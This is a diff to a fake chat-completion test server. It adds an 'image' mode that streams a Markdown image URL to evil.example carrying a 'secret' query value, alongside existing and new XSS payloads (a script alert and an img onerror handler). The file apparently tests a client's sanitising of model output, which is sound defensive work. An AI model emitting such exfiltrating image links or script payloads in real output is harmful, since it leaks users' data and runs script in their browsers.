@@ -7,7 +7,7 @@ The requested *model name* picks the behaviour:
 - ``slow``: waits ``SLOW_S`` seconds before answering (for timeouts);
 - ``echo``: streams ``REPLY`` in a few chunks without usage (like llama.cpp's server);
 - ``echo-usage``: the same, with a final usage chunk (like OpenAI with include_usage);
-- ``html``: streams ``HTML_REPLY``.
+- ``html``: streams ``HTML_REPLY``; ``image``: streams ``IMAGE_REPLY`` (a Markdown image and an HTML one).
 
 Every request's Authorization header, all headers, path and JSON body are recorded in ``FakeServer.requests``.
 """
@@ -23,6 +23,7 @@ from typing import Any
 
 REPLY = ["Hello", ", ", "learner", "!"]
 HTML_REPLY = ["<script>alert('x')</script>", " <b>bold</b>"]
+IMAGE_REPLY = ["Here: ![chart](http://evil.example/px.png?d=", "secret) and <img src=x onerror=alert(1)>"]
 USAGE = {"prompt_tokens": 11, "completion_tokens": 4, "total_tokens": 15}
 SLOW_S = 3.0
 
@@ -91,7 +92,7 @@ def start() -> FakeServer:
                 return
             if model == "slow":
                 time.sleep(SLOW_S)
-            pieces = HTML_REPLY if model == "html" else REPLY
+            pieces = {"html": HTML_REPLY, "image": IMAGE_REPLY}.get(model, REPLY)
             events = [_chunk(model, {"role": "assistant"})]
             events += [_chunk(model, {"content": p}) for p in pieces]
             events.append(_chunk(model, {}, "stop"))
